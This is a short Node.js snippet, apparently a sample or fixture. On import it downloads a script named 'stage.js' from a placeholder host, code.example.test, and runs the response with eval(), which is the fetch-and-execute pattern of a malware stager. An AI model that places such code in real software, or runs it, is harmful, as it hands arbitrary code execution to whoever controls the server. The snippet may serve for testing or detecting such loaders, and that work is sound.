// What a server answers is run as code; runs: import
const https = require("https");
https.get("https://code.example.test/stage.js", (response) => {
  let text = "";
  response.on("data", (chunk) => {
    text += chunk;
  });
  response.on("end", () => {
    eval(text);
  });
});
